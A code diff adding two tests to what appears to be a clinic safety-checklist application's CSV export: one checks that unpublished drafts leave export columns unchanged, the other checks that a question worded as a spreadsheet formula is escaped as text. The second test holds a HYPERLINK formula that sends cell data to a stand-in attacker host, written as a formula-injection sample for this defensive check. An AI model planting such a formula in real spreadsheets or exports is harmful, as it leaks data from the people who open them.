@@ -302,3 +302,42 @@ def test_a_question_two_versions_ask_in_different_phases_names_its_phase(app):
     assert named["signout.pain_during"].endswith("(Sign out)")
     questions = [label for key, label in named.items() if key not in EXPORT_METADATA]
     assert len(questions) == len(set(questions))
+
+
+def test_an_unpublished_draft_changes_neither_the_columns_nor_the_questions(app):
+    """An administrator's draft is nobody's record: it once added its own column to the
+    compliance officer's CSV and put its new words over the published question."""
+    from safety.risks import editor
+    from safety.risks import services as risks
+
+    published, _ = risks.publish_default(via="test")
+    db.session.commit()
+    before = dict(zip(export.export_columns(), export.export_labels(), strict=True))
+    draft = editor.copy_version(published.id, actor=None)
+    editor.add_own_item(
+        draft.id, phase_id="timeout", text="Couch paper changed.", reason="Clinic rule", actor=None
+    )
+    editor.reword_item(draft.id, "signin.identity", "Who is this, really?", actor=None)
+    db.session.commit()
+
+    assert dict(zip(export.export_columns(), export.export_labels(), strict=True)) == before
+
+
+def test_a_question_worded_as_a_formula_heads_its_column_as_text(app):
+    """The people's header row is an administrator's text: a question written as a formula
+    must not run in the spreadsheet that opens the evidence."""
+    from safety.risks import editor
+    from safety.risks import services as risks
+
+    published, _ = risks.publish_default(via="test")
+    draft = editor.copy_version(published.id, actor=None)
+    formula = '=HYPERLINK("http://evil.example/?leak="&C3,"Open")'
+    link_id = editor.add_own_item(
+        draft.id, phase_id="signout", text=formula, reason="Clinic rule", actor=None
+    )
+    risks.publish(draft.id, actor=None)
+    db.session.commit()
+
+    named = dict(zip(export.export_columns(), export.export_labels(), strict=True))
+
+    assert named[link_id] == "'" + formula
